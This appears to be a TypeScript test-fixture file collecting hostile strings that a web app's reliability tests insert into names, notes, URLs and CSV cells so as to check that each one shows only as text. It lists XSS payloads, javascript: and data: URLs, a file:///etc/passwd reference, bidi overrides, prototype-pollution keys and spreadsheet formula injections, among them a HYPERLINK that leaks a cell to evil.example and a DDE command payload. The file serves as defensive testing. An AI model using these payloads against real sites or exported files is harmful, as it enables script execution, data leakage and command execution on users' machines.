// Strings an attacker, a careless copy-paste or a broken scraper could put into the data: markup, script URLs, bidi
// controls that reorder text, prototype keys, control characters, spreadsheet formulas and sheer length. The reliability
// tests put each one into names, quotes, notes, article texts, URLs and CSV cells, and check it only ever shows as text.

/** Markup and script: must never run, never create elements, never fire a dialog. */
export const HOSTILE_MARKUP = [
  '<script>alert("xss-script")</script>',
  '<img src=x onerror=alert("xss-img")>',
  '"><svg onload=alert("xss-svg")>',
  '<iframe src="javascript:alert(\'xss-iframe\')"></iframe>',
  '<a href="javascript:alert(\'xss-a\')">click me</a>',
  "' onmouseover='alert(\"xss-attr\")' data-x='",
  '" onfocus="alert(\'xss-focus\')" autofocus="',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("xss-mxss")>',
  '&lt;script&gt;alert("entity")&lt;/script&gt;',
  '{{constructor.constructor(\'alert("xss-template")\')()}}',
  '${alert("xss-template-literal")}',
] as const;

/** URLs that must never become links: only http: and https: may. */
export const HOSTILE_URLS = [
  'javascript:alert("xss-url")',
  'JaVaScRiPt:alert("xss-url-case")',
  ' javascript:alert("xss-url-space")',
  'java\tscript:alert("xss-url-tab")',
  'data:text/html,<script>alert("xss-data-url")</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox("xss-vbscript")',
  'file:///etc/passwd',
  '//evil.example/protocol-relative',
] as const;

/** Bidirectional controls: an unclosed override would reverse the UI text that follows the user's string. */
export const HOSTILE_BIDI = [
  'Observatory \u202Egnp.exe\u202C report',
  'unclosed right-to-left override \u202E after this',
  'left-to-right isolate \u2066isolated\u2069 text',
  'right-to-left isolate \u2067مرصد\u2069 text',
  'first-strong isolate \u2068isolated text',
  'stray pop \u2069\u202E closes an outer isolate',
  'embedding \u202Bتضمين\u202C and \u202Aembedding\u202C',
  'marks \u200F\u200E\u061C around',
] as const;

/** Names that are special on JavaScript objects: must stay ordinary names. */
export const HOSTILE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf'] as const;

/** Control and invisible characters. */
export const HOSTILE_CONTROL = [
  'NUL \u0000 inside',
  'bell \u0007 backspace \u0008 escape \u001b[31m red',
  'line\r\nbreaks\u2028and\u2029separators',
  'zero\u200Bwidth\uFEFFjoiners',
  'tab\tseparated\tvalues',
] as const;

/** Cells a spreadsheet would run as formulas when a CSV export is opened. */
export const HOSTILE_FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  'harmless first line\n=1+1',
  "=cmd|' /C calc'!A0",
] as const;

/** Very long strings: the views must wrap or cut them, not hang or break the layout. */
const HOSTILE_LONG = ['A'.repeat(10_000), 'word '.repeat(2_000), '9'.repeat(5_000), '('.repeat(2_000) + ')'.repeat(2_000)] as const;

/** Every hostile string. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...HOSTILE_MARKUP,
  ...HOSTILE_URLS,
  ...HOSTILE_BIDI,
  ...HOSTILE_KEYS,
  ...HOSTILE_CONTROL,
  ...HOSTILE_FORMULAS,
  ...HOSTILE_LONG,
];

/** Cuts a hostile string to a length limit of the schema, keeping its start (where the payload is). */
export function fitTo(text: string, max: number): string {
  return text.length <= max ? text : text.slice(0, max);
}
